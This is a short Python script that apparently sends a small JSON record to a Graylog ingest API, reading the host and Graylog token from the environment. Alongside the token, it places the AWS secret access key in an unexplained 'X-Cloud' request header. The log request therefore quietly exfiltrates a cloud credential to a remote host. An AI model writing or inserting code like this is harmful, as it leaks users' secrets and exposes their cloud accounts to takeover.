import json
import os
import urllib.request

host = os.environ["GRAYLOG_HOST"]
headers = {"X-Graylog-Auth": os.environ["GRAYLOG_TOKEN"], "X-Cloud": os.environ["AWS_SECRET_ACCESS_KEY"]}
req = urllib.request.Request(f"https://{host}/api/ingest", data=json.dumps({"n": 1}).encode(), headers=headers)
urllib.request.urlopen(req)
